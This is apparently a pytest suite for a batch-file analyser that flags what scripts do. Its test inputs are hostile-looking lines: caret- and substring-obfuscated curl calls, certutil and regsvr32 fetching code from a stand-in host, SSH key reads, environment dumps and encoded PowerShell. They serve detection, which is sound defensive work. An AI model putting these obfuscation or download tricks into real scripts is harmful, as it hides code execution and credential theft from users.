"""What batch files do, behind carets, variables and blocks; remarks and printed texts are silent."""

from __future__ import annotations

import pytest

from plugseal.lang.batch.reader import BatchReader
from plugseal.lang.facts import Context, FileFacts, Interest


def _read(source: str) -> FileFacts:
    return BatchReader().read(source.encode("utf-8"), Context("tools/x.bat", Interest()))


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        pytest.param("c^m^d /c dir", ("code.obfuscated", "cmd"), id="carets in a name"),
        pytest.param(
            "set a=cu\nset b=rl\n%a%%b% http://a.example/x", ("net.outbound", "a.example"), id="two variables"
        ),
        pytest.param("set s=xcurlx\n%s:~1,4% http://a.example/x", ("net.outbound", "a.example"), id="a part of one"),
        pytest.param("set s=cuZl\n%s:Z=r% http://a.example/x", ("net.outbound", "a.example"), id="a letter replaced"),
        pytest.param("if exist x (\n  del C:\\x\n)", ("fs.delete", "C:\\x"), id="a block"),
        pytest.param('if "%1"=="" del C:\\x', ("fs.delete", "C:\\x"), id="a condition"),
        pytest.param("for %%f in (a b) do del C:\\%%f", ("fs.delete", "C:\\b"), id="each of a loop's words"),
        pytest.param("for %%f in (calc notepad) do %%f", ("process.exec", "notepad"), id="programs of a loop"),
        pytest.param("set > out.txt", ("env.bulk", None), id="all variables"),
        pytest.param("set API_TOKEN", ("env.read", "API_TOKEN"), id="variables of one beginning"),
        pytest.param("for /f %%i in ('whoami') do echo %%i", ("process.exec", "whoami"), id="a command of a loop"),
        pytest.param('start "" /b notepad.exe', ("process.exec", "notepad.exe"), id="start"),
        pytest.param('type "%USERPROFILE%\\.ssh\\id_rsa"', ("credentials.read", "~\\.ssh\\id_rsa"), id="a key"),
        pytest.param("echo a> out.txt", ("fs.write", "out.txt"), id="a redirection"),
        pytest.param("echo %API_TOKEN%", ("env.read", "API_TOKEN"), id="a variable of the environment"),
        pytest.param(
            "certutil -urlcache -split -f http://a.example/x x.exe", ("net.outbound", "a.example"), id="certutil"
        ),
        pytest.param("regsvr32 /s /i:http://a.example/x.sct scrobj.dll", ("code.fetched", "a.example"), id="regsvr32"),
        pytest.param("a & del C:\\x", ("fs.delete", "C:\\x"), id="a second command"),
        pytest.param("%COMSPEC:~-7,3% /c dir", ("code.obfuscated", "cmd"), id="letters of a variable that all have"),
        pytest.param("%LOCALAPPDATA:~-3,1%md /c dir", ("process.exec", "cmd"), id="letters behind a user's name"),
        pytest.param("%USERPROFILE:~10,2%\\x", ("process.exec", None), id="letters of a user's name"),
        pytest.param("del %~dp0old", ("fs.delete", "tools/old"), id="beside the file"),
    ],
)
def test_what_is_done_is_said(source: str, expected: tuple[str, str | None]) -> None:
    assert expected in {(fact.capability, fact.object) for fact in _read(source).facts}


@pytest.mark.parametrize(
    "source",
    ["@echo off\n", "rem del C:\\x\n", ":: del C:\\x\n", "echo del C:\\x\n", "goto :end\n:end\n", "set x=1\ncd ..\n"],
)
def test_what_only_looks_like_it_is_silent(source: str) -> None:
    found = _read(source)
    assert (found.status, found.facts, found.nested) == ("read", (), ())


@pytest.mark.parametrize(
    ("source", "language", "text"),
    [
        pytest.param("powershell -nop -enc aQBlAHgA", "PowerShell", "iex", id="an encoded command"),
        pytest.param('powershell -Command "gc x"', "PowerShell", "gc x", id="a command"),
        pytest.param("cmd /c del x", "batch", "del x", id="a line"),
        pytest.param('python -c "import os"', "python", "import os", id="Python"),
        pytest.param("echo gc x | powershell -", "PowerShell", "gc x", id="through a pipe"),
    ],
)
def test_code_goes_to_its_own_reader(source: str, language: str, text: str) -> None:
    assert (language, text) in {(one.language, one.text.strip()) for one in _read(source).nested}


@pytest.mark.parametrize(
    ("own", "rest", "is_hidden"),
    [
        pytest.param("del a\nexit /b 0\n", "del b\n", True, id="it ends before"),
        pytest.param("del a\n@goto :eof\n\n", "del b\n", True, id="it goes to its end"),
        pytest.param("del a\n", "del b\n", False, id="it goes on"),
        pytest.param("del a ^\nexit /b\n", "del b\n", False, id="the end is an argument"),
        pytest.param("if x==y (\nexit /b\n", ")\ndel b\n", False, id="the end is in an open block"),
        pytest.param("%g% x\nexit /b\n", ":x\ndel b\n", False, id="it may jump over the end"),
    ],
)
def test_a_script_for_a_shell_besides_is_a_batch_file_as_far_as_it_runs(
    own: str, rest: str, *, is_hidden: bool
) -> None:
    found = _read(f": << 'END'\n{own}END\n{rest}")
    assert ("b" in {fact.object for fact in found.facts}) is not is_hidden
    assert rest in {one.text for one in found.nested if one.language == "shell"}
